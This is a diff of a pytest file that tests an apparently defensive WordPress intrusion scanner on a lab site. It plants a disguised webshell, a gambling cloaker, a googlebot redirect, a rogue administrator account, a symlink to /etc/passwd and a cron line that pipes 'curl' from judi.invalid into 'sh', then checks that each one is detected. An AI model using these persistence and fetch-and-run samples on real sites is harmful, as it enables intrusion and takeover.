@@ -2,13 +2,13 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
-from playbooks.findings import Finding, TargetResult
+from playbooks.findings import TargetResult
 from playbooks.hosting import check, files
 from playbooks.hosting.connect import Shell, open_host
 from playbooks.hosting.site import Site
@@ -27,17 +27,28 @@ CLOAKER = (
 )
 PAGE = "<title>Slot Gacor Hari Ini</title><h1>Daftar situs slot gacor maxwin, deposit pulsa, bandar togel online</h1>"
 HTACCESS = "RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} googlebot [NC]\nRewriteRule .* http://judi.invalid/ [R]\n"
+CRON = "* * * * * www-data curl -s http://judi.invalid/x | sh\n"
 ADMIN = """
 insert into bersih_web.wp_users (ID, user_login, user_registered) values (77, 'sistem_wp', '2026-01-02');
 insert into bersih_web.wp_usermeta (user_id, meta_key, meta_value)
 values (77, 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}')
 """
-NO_ADMIN = "delete from bersih_web.wp_users where ID = 77; delete from bersih_web.wp_usermeta where user_id = 77"
+PLANTED = {
+    f"{UPLOADS}/2026/01/gambar.php": SHELL,
+    f"{UPLOADS}/foto \n baru.jpg": f"GIF89a{SHELL}",
+    f"{UPLOADS}/berita/index.html": PAGE,
+    f"{UPLOADS}/.htaccess": HTACCESS,
+    f"{UPLOADS}/.user.ini": "auto_prepend_file = gambar.jpg\n",
+    "current/wp-login.php": "<?php // lain",
+    "current/wp-includes/wp-lama.php": "<?php phpinfo();",
+    "current/.env": "APP_KEY=rahasia\nDB_PASSWORD=rahasia\n",
+    "current/.git/HEAD": "ref: refs/heads/main\n",
+}
 
 
 @dataclass
 class Ground:
-    """A clean WordPress, and what a test does to it."""
+    """A WordPress of the lab, and what its check found."""
 
     site: Site
     shell: Shell
@@ -47,16 +58,14 @@ class Ground:
     def base(self) -> Path:
         return Path(self.site.layout.base)
 
+    def real(self, name: str) -> str:
+        """A path below the site's folder as a finding names it."""
+        return str((self.base / name).resolve().relative_to(self.base))
+
     def look(self) -> TargetResult:
         result = check.check(self.site, self.shell)
         assert result.detail == "", result.detail
         return result
-
-    def findings(self) -> list[Finding]:
-        return [each for each in self.look().findings if each.code.startswith(OURS)]
-
-    def found(self) -> set[tuple[str, str]]:
-        return {(each.code, each.subject) for each in self.findings()}
 
 
 @pytest.fixture(scope="module")
@@ -69,104 +78,103 @@ def ground(web_lab: WebLab) -> Iterator[Ground]:
         yield Ground(site, shell, web_lab)
 
 
-@pytest.fixture
-def plant(ground: Ground) -> Iterator[Callable[[str, str], str]]:
-    """Writes a file as root, below the site's folder, and puts things back; returns its real path from there."""
-    before: dict[Path, bytes | None] = {}
-
-    def write(name: str, text: str) -> str:
-        path = (ground.base / name).resolve()
-        before.setdefault(path, path.read_bytes() if path.exists() else None)
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text)
-        run("chmod", "-R", "a+rX", str(path.parent))
-        return str(path.relative_to(ground.base))
-
-    yield write
-    for path, data in before.items():
-        path.unlink() if data is None else path.write_bytes(data)
+@pytest.fixture(scope="module")
+def clean(ground: Ground) -> TargetResult:
+    return ground.look()
 
 
-def test_a_clean_wordpress_has_none_of_these_findings(ground: Ground) -> None:
-    result = ground.look()
-    assert {"files", "cms", "php", "os", "exposed", "content"} <= {*result.checked}
-    assert [each for each in result.findings if each.code.startswith(OURS)] == []
-    assert result.copies == {}
-
-
-def test_a_webshell_is_found_and_copied(ground: Ground, plant: Callable[[str, str], str]) -> None:
-    path = plant(f"{UPLOADS}/2026/01/gambar.php", SHELL)
-    disguised = plant(f"{UPLOADS}/foto \n baru.jpg", f"GIF89a{SHELL}")
-    assert {("files.webshell", path), ("files.unknown", path)} <= ground.found()
-    assert ("files.webshell", disguised.replace(" \n ", " ")) in ground.found()
-    assert ground.look().copies[path] == SHELL.encode()
-
-
-def test_a_cloaker_in_a_core_file_is_found_on_the_page_and_in_the_file(
-    ground: Ground, plant: Callable[[str, str], str]
-) -> None:
-    index = (ground.base / "current/index.php").read_text()
-    path = plant("current/index.php", CLOAKER + index)
-    found = ground.found()
-    assert ("files.changed", path) in found
-    assert {code for code, _ in found} & {"content.cloaked", "content.gambling"}
-
-
-def test_a_core_file_that_changed_or_went_is_found(ground: Ground, plant: Callable[[str, str], str]) -> None:
-    changed, lost = plant("current/wp-login.php", "<?php // lain"), plant("current/wp-cron.php", "")
-    (ground.base / lost).unlink()
-    added = plant("current/wp-includes/wp-lama.php", "<?php phpinfo();")
-    assert ground.found() >= {
-        ("files.changed", changed),
-        ("files.changed", lost),
-        ("files.unknown", added),
-        ("exposed.debug", added),
-    }
-    (ground.base / lost).write_text("")
-
-
-def test_a_hidden_page_is_found(ground: Ground, plant: Callable[[str, str], str]) -> None:
-    path = plant(f"{UPLOADS}/berita/index.html", PAGE)
-    assert ("content.gambling", path) in ground.found()
-
-
-def test_rules_that_send_searchers_away_are_found(ground: Ground, plant: Callable[[str, str], str]) -> None:
-    path = plant(f"{UPLOADS}/.htaccess", HTACCESS)
-    ini = plant(f"{UPLOADS}/.user.ini", "auto_prepend_file = gambar.jpg\n")
-    assert {("files.webshell", path), ("files.webshell", ini)} <= ground.found()
-
-
-def test_an_unknown_admin_is_found(ground: Ground) -> None:
-    ground.lab.sql(ADMIN)
-    try:
-        (found,) = ground.findings()
-    finally:
-        ground.lab.sql(NO_ADMIN)
-    assert (found.code, "sistem_wp" in found.evidence) == ("cms.unknown_admin", True)
-
-
-def test_debugging_is_found_in_the_settings_and_on_the_page(ground: Ground, plant: Callable[[str, str], str]) -> None:
+@pytest.fixture(scope="module")
+def intruded(ground: Ground, clean: TargetResult) -> TargetResult:
+    """The same site after everything at once, and its web server no longer refusing what begins with a dot."""
+    assert clean
+    for name, text in PLANTED.items():
+        _plant(ground.base / name, text)
+    _plant(ground.base / "current/index.php", CLOAKER + (ground.base / "current/index.php").read_text())
     config = (ground.base / "shared/wp-config.php").read_text()
-    shown = "ini_set('display_errors', 1); echo $tak_ada;\n"
-    text = config.replace("define('WP_DEBUG', false);", f"define('WP_DEBUG', true); {shown}")
-    path = plant("shared/wp-config.php", text)
-    assert {("files.changed", path), ("exposed.debug", path)} <= ground.found()
-
-
-def test_secrets_are_found_where_visitors_would_get_them(ground: Ground, plant: Callable[[str, str], str]) -> None:
-    env = plant("current/.env", "APP_KEY=rahasia\nDB_PASSWORD=rahasia\n")
-    git = plant("current/.git/HEAD", "ref: refs/heads/main\n")
-    assert {("exposed.file", env), ("exposed.file", git)} <= ground.found()
+    _plant(ground.base / "shared/wp-config.php", config.replace("'WP_DEBUG', false", "'WP_DEBUG', true"))
+    (ground.base / "current/wp-cron.php").unlink()
+    (ground.base / UPLOADS / "logo.png").symlink_to("/etc/passwd")
+    Path("/etc/cron.d").mkdir(exist_ok=True)
+    _plant(Path("/etc/cron.d/php-sesi"), CRON)
+    ground.lab.sql(ADMIN)
     web = Path(files.web_path(ground.site))
-    kept = web.read_text()
-    web.write_text(kept.replace("location ~ /\\. { return 404; }", ""))
+    web.write_text(web.read_text().replace("location ~ /\\. { return 404; }", ""))
     ground.shell.privileged(ground.site.host.commands.nginx_reload)
-    try:
-        url = f"http://{ground.site.domain}"
-        result = ground.look()
-        told = {(each.code, each.subject) for each in result.findings}
-        assert {("exposed.file", f"{url}/.env"), ("exposed.file", f"{url}/.git/HEAD")} <= told
-        assert "rahasia" not in f"{result.as_json()}"
-    finally:
-        web.write_text(kept)
-        ground.shell.privileged(ground.site.host.commands.nginx_reload)
+    return ground.look()
+
+
+def _plant(path: Path, text: str) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    run("chmod", "-R", "a+rX", str(path.parent))
+
+
+def found(result: TargetResult) -> set[tuple[str, str]]:
+    return {(each.code, each.subject) for each in result.findings if each.code.startswith(OURS)}
+
+
+def test_a_clean_wordpress_has_none_of_these_findings(clean: TargetResult) -> None:
+    assert {"files", "cms", "php", "os", "exposed", "content"} <= {*clean.checked}
+    assert found(clean) == set()
+    assert clean.copies == ()
+
+
+@pytest.mark.parametrize(
+    ("code", "name"),
+    [
+        ("files.webshell", f"{UPLOADS}/2026/01/gambar.php"),
+        ("files.unknown", f"{UPLOADS}/2026/01/gambar.php"),
+        ("files.unknown", f"{UPLOADS}/logo.png"),
+        ("files.webshell", f"{UPLOADS}/.htaccess"),
+        ("files.webshell", f"{UPLOADS}/.user.ini"),
+        ("content.gambling", f"{UPLOADS}/berita/index.html"),
+        ("files.changed", "current/wp-login.php"),
+        ("files.changed", "current/wp-cron.php"),
+        ("files.changed", "current/index.php"),
+        ("files.webshell", "current/index.php"),
+        ("files.unknown", "current/wp-includes/wp-lama.php"),
+        ("exposed.debug", "current/wp-includes/wp-lama.php"),
+        ("files.changed", "shared/wp-config.php"),
+        ("exposed.debug", "shared/wp-config.php"),
+        ("exposed.file", "current/.env"),
+        ("exposed.file", "current/.git/HEAD"),
+    ],
+)
+def test_what_an_intruder_left_in_the_files_is_found(
+    ground: Ground, intruded: TargetResult, code: str, name: str
+) -> None:
+    here = ground.base / name
+    subject = str(here.relative_to(ground.base)) if here.is_symlink() else ground.real(name)
+    assert (code, subject) in found(intruded)
+
+
+def test_a_back_door_in_a_picture_with_a_hostile_name_is_found_and_printable(intruded: TargetResult) -> None:
+    assert ("files.webshell", f"{UPLOADS}/foto baru.jpg") in found(intruded)
+
+
+def test_a_cloaker_is_found_on_the_page_as_searchers_get_it(intruded: TargetResult) -> None:
+    assert {code for code, _ in found(intruded)} & {"content.cloaked"}
+
+
+def test_an_unknown_admin_is_found_and_the_known_one_is_not(intruded: TargetResult) -> None:
+    (admin,) = [each for each in intruded.findings if each.code == "cms.unknown_admin"]
+    assert "sistem_wp" in admin.evidence
+
+
+def test_a_timetable_that_fetches_programs_is_found(intruded: TargetResult) -> None:
+    assert ("files.webshell", "jadwal (cron)") in found(intruded)
+
+
+def test_open_doors_are_found_by_asking_and_their_secrets_are_not_quoted(
+    ground: Ground, intruded: TargetResult
+) -> None:
+    url = f"http://{ground.site.domain}"
+    assert {("exposed.file", f"{url}/.env"), ("exposed.file", f"{url}/.git/HEAD")} <= found(intruded)
+    assert "rahasia" not in f"{intruded.as_json()}"
+
+
+def test_files_are_copied_as_they_were_with_owner_and_times(ground: Ground, intruded: TargetResult) -> None:
+    (copy,) = [each for each in intruded.copies if each.path.endswith("gambar.php")]
+    there = (ground.base / UPLOADS / "2026/01/gambar.php").stat()
+    assert copy.data == SHELL.encode()
+    assert (copy.owner, copy.modified) == ("root", int(there.st_mtime))
